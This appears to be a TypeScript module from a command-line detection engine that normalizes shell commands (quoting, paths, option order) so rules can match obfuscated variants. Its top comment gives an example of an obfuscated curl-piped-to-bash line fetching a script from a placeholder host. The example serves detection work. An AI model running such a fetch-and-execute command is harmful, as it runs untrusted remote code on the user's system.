/**
 * The normal form of a command line: command lines that differ only in quoting, variables, order of options, path of the program or
 * encoding have the same one. Rules use it as the field `NormalCommandLine`; `shapeOfCommand` compares command lines with one another.
 *
 *     sudo 'cu'rl -sL http://x/a|ba\sh      sudo curl -sL http://x/a ; curl -sL http://x/a | bash
 *
 * Programs are joined by ` | ` if one reads the output of the other, and by ` ; ` otherwise; a program started by another follows it.
 * At most `MAX_NORMAL` characters. Tested in normal-form.test.ts.
 */
import { interpret, interpretArguments } from './interpret.js';
import type { Execution } from './interpret.js';
import { orderedOptions } from './options.js';

export const MAX_NORMAL = 16_384;

export function normalForm(line: string): string {
  return written(interpret(line));
}

export function normalFormOf(argv: readonly string[]): string {
  return written(interpretArguments(argv));
}

function written(executions: readonly Execution[]): string {
  let text = '';
  for (const execution of executions) {
    if (text !== '') text += execution.joint === 'pipe' ? ' | ' : ' ; ';
    text += one(execution);
    if (text.length > MAX_NORMAL) return text.slice(0, MAX_NORMAL);
  }
  return text;
}

/** System folders: a program elsewhere keeps its path, which says more than its name. */
const systemPath = /^(?:\/usr(?:\/local)?)?\/s?bin\/(?=[^/]+$)/;

function one({ argv, assignments, redirects, revealed }: Execution): string {
  const parts = [
    ...assignments.map(([name, value]) => `${name}=${value}`),
    ...(argv.length === 0 ? [] : [argv[0]!.replace(systemPath, ''), ...argv.slice(1)]),
    ...redirects.map(({ operator, target }) => `${operator}${target}`),
    ...revealed.map((text) => `#= ${text}`),
  ];
  return parts.join(' ');
}

/** For comparison: combined options are split and sorted, and programs lose their paths. Operands keep their order. */
export function shapeOfCommand(line: string): string {
  return interpret(line)
    .map((execution) =>
      one({
        ...execution,
        argv: execution.argv.length === 0 ? [] : [execution.argv[0]!, ...orderedOptions(execution.program, execution.argv.slice(1))],
      }),
    )
    .join(' ; ');
}
